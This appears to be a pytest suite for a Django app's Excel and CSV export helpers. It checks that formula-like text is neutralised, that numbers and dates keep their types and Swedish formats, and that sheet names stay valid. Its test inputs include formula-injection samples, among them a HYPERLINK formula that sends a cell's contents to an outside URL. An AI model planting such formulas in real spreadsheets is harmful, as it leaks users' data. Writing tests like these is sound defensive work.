"""Spreadsheets as the person who opens them meets them: text reads as the text that was written,
never as a formula; numbers and dates stay numbers and dates."""

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils.translation import gettext_lazy
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from samordna.core import exports

FORMULAS = [
    '=HYPERLINK("https://example.org/?q="&A1,"Klicka här")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _excel_cells(values, formats=()):
    workbook = exports.new_workbook()
    exports.append_row(exports.add_sheet(workbook, "Blad"), values, formats=formats)
    sheet = load_workbook(io.BytesIO(exports.workbook_bytes(workbook))).active
    return list(sheet[1])


def _csv_row(values):
    text = exports.csv_bytes([values]).decode("utf-8")
    assert text.startswith(exports.BYTE_ORDER_MARK)
    return next(csv.reader(io.StringIO(text[1:]), delimiter=";"))


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_text_in_excel(text):
    (cell,) = _excel_cells([text])
    assert cell.data_type == "s"
    assert cell.value == text
    assert cell.quotePrefix


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_neutralised_in_csv(text):
    assert _csv_row([text]) == [f"'{text}"]


def test_numbers_and_dates_stay_numbers_and_dates():
    values = [12, Decimal("-812000.50"), -3, 0.25, date(2025, 1, 15)]
    cells = _excel_cells(values)
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "n", "d"]
    assert [cell.value for cell in cells[:4]] == [12, -812000.5, -3, 0.25]
    assert _csv_row(values) == ["12", "-812000.50", "-3", "0.25", "2025-01-15"]


def test_amounts_are_numbers_shown_in_kronor_and_text_keeps_its_look():
    amount, share, label = _excel_cells(
        [Decimal("812000.00"), Decimal("16.9"), "Totalt"],
        formats=[exports.KRONOR, exports.PERCENT, exports.KRONOR],
    )
    assert (amount.value, amount.data_type, amount.number_format) == (812000, "n", '#,##0 "kr"')
    assert (share.value, share.number_format) == (16.9, '0.0 "%"')
    assert (label.value, label.number_format) == ("Totalt", "General")


def test_ordinary_text_is_written_as_it_is():
    values = ["Samverkansteam Finnveden", "<5", "–", gettext_lazy("Year"), ""]
    cells = _excel_cells(values)
    assert [cell.value for cell in cells[:4]] == ["Samverkansteam Finnveden", "<5", "–", "År"]
    assert not any(cell.quotePrefix for cell in cells)
    assert _csv_row(values) == ["Samverkansteam Finnveden", "<5", "–", "År", ""]


def test_a_control_character_does_not_break_the_workbook():
    (cell,) = _excel_cells(["Insats\x01 Norr"])
    assert cell.value == "Insats Norr"


_TEXT = st.characters(blacklist_categories=["Cs", "Cc"]) | st.sampled_from("\t\r=+-@")


@given(st.text(alphabet=_TEXT, min_size=1))
@settings(deadline=None)  # a workbook per example; timing on a shared machine is no finding
def test_any_text_reads_back_as_the_same_text_in_excel(text):
    (cell,) = _excel_cells([text])
    assert cell.data_type == "s" and cell.value == text


def test_csv_streams_one_line_per_row():
    lines = list(exports.csv_lines([["a", 1], ["=b", 2]]))
    assert lines == [exports.BYTE_ORDER_MARK, "a;1\r\n", "'=b;2\r\n"]


def test_sheet_titles_are_ones_excel_accepts():
    workbook = exports.new_workbook()
    sheet = exports.add_sheet(workbook, "Utfall [kr] per år/organisation", [30, 12])
    assert sheet.title == "Utfall kr per år organisation"
    assert sheet.column_dimensions["A"].width == 30


def _read_back(workbook):
    return load_workbook(io.BytesIO(exports.workbook_bytes(workbook)))


def test_a_long_sheet_name_is_shortened_at_a_word_boundary_and_kept_unique():
    workbook = exports.new_workbook()
    title = "Deltagare per kön och initierande part vid inskrivning"
    for _ in range(2):
        exports.add_sheet(workbook, title)
    names = _read_back(workbook).sheetnames
    assert names == ["Deltagare per kön och", "Deltagare per kön och (2)"]
    assert all(len(name) <= 31 for name in names)


@given(st.lists(st.text(min_size=1, max_size=60), min_size=1, max_size=6))
@settings(max_examples=60)
def test_every_sheet_name_is_whole_words_short_and_unique(titles):
    workbook = exports.new_workbook()
    for title in titles:
        exports.add_sheet(workbook, title)
    names = _read_back(workbook).sheetnames
    assert len({name.casefold() for name in names}) == len(titles)
    assert all(0 < len(name) <= 31 for name in names)


def test_a_header_row_is_bold_frozen_and_its_columns_fit_it():
    workbook = exports.new_workbook()
    sheet = exports.add_sheet(workbook, "Budget", header=["År", "Beviljat belopp för året"])
    exports.append_row(sheet, [2026, Decimal("812000.00")], formats=[None, exports.KRONOR])
    sheet = _read_back(workbook)["Budget"]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold and sheet["B1"].value == "Beviljat belopp för året"
    assert sheet.column_dimensions["B"].width >= len("Beviljat belopp för året")


def test_numbers_and_dates_are_typed_in_swedish_formats():
    workbook = exports.new_workbook()
    sheet = exports.add_sheet(workbook, "Blad", header=["a", "b", "c", "d", "e"])
    formats = [exports.KRONOR, exports.PERCENT, exports.COUNT, exports.MEAN]
    exports.append_row(
        sheet, [Decimal("812000"), Decimal("75.0"), 1234, 2.5, date(2026, 11, 19)], formats=formats
    )
    row = list(_read_back(workbook)["Blad"][2])
    assert [cell.number_format for cell in row] == [
        '#,##0 "kr"',
        '0.0 "%"',
        "#,##0",
        "0.0",
        "yyyy-mm-dd",
    ]
    assert row[0].value == 812000 and row[4].value.date() == date(2026, 11, 19)


def test_the_spreadsheet_content_types_are_spelt_only_in_core_exports():
    """Every Excel and CSV download names its type through core.exports, so all send the same."""
    package = Path(exports.__file__).parents[1]
    spelt = {
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if "tests" not in path.parts
        and any(
            literal in path.read_text()
            for literal in (exports.XLSX_CONTENT_TYPE, exports.CSV_CONTENT_TYPE)
        )
    }
    assert spelt == {"core/exports.py"}
